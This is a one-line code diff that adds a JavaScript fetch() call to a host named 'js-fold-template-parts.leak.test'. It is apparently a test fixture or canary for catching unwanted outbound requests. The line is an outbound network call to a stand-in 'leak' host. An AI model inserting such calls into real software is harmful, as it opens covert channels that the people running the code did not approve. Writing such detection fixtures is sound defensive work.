@@ -1,0 +1,1 @@
+fetch(`https://${"js-fold-template-parts.leak.test"}/`)
